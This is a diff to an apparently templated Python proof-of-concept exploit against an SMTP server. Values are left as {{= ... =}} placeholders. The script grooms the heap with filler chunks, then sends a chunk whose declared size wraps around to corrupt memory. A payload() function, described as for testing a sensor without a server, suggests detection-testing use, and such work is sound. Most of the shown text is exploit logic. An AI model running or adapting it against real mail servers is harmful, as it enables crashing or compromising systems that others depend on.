@@ -430,9 +430,9 @@ import time
 {{= PORT | SMTP_PORT | TARGET_PORT =}} = int(sys.argv[2]) if len(sys.argv) > 2 else 25
 GROOMING_CHUNKS = {{= 24..55 =}}  # chunks sent first to shape the heap
 CHUNK_SIZE = {{= 0x100..0x11f =}}
-FILLER = b"{{= A..Z =}}" * CHUNK_SIZE
-MARKER = b"\\xde\\xad{{=marker: \\x00..\\x1f =}}\\xbe\\xef"
-SESSION_TAG = {{= 0x1000..0x10ff =}}
+FILLER = (b"{{=filler-1: A..Z =}}{{=filler-2: A..Z =}}" * CHUNK_SIZE)[:CHUNK_SIZE]
+MARKER = b"\\xde\\xad{{=marker: \\x00..\\xff =}}\\xbe\\xef"
+SESSION_TAG = {{= 0x7a3c0000..0x7a3c00ff =}}
 WRAP = {{= 0xfffffff0..0xffffffff =}}
 PAUSE = {{= 0.05 | 0.06 | 0.07 | 0.08 | 0.09 | 0.10 | 0.11 | 0.12 =}}
 
@@ -463,7 +463,7 @@ def {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}}):
 
 def {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}():
     """The chunk whose declared size wraps around once added to the bytes already received."""
-    body = FILLER + MARKER + struct.pack("<IH", WRAP, SESSION_TAG)
+    body = FILLER + MARKER + struct.pack("<II", WRAP, SESSION_TAG)
     return {{= build_chunk | make_chunk | craft_chunk =}}(WRAP, body)
 
 
@@ -473,7 +473,7 @@ def main():
         print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
         {{= connection | sock | conn =}}.sendall(b"EHLO {{= poc | test | probe | check =}}.example\\r\\n")
         print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
-        sender = b"MAIL FROM:<{{= a | b | c | d | e | f | g | h =}}@example.test>\\r\\n"
+        sender = b"MAIL FROM:<{{= a..z =}}@example.test>\\r\\n"
         {{= connection | sock | conn =}}.sendall(sender + b"RCPT TO:<postmaster>\\r\\n")
         {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}})
         {{= connection | sock | conn =}}.sendall({{= wrapping_chunk | overflow_chunk | trigger_chunk =}}())
@@ -483,7 +483,7 @@ def main():
 def payload():
     """The bytes main() sends after the greeting (for testing a sensor without a server)."""
     envelope = b"EHLO {{= poc | test | probe | check =}}.example\\r\\n"
-    envelope += b"MAIL FROM:<{{= a | b | c | d | e | f | g | h =}}@example.test>\\r\\nRCPT TO:<postmaster>\\r\\n"
+    envelope += b"MAIL FROM:<{{= a..z =}}@example.test>\\r\\nRCPT TO:<postmaster>\\r\\n"
     chunks = [{{= build_chunk | make_chunk | craft_chunk =}}(CHUNK_SIZE, FILLER) for _ in range(GROOMING_CHUNKS)]
     return envelope + b"".join(chunks) + {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}()
 
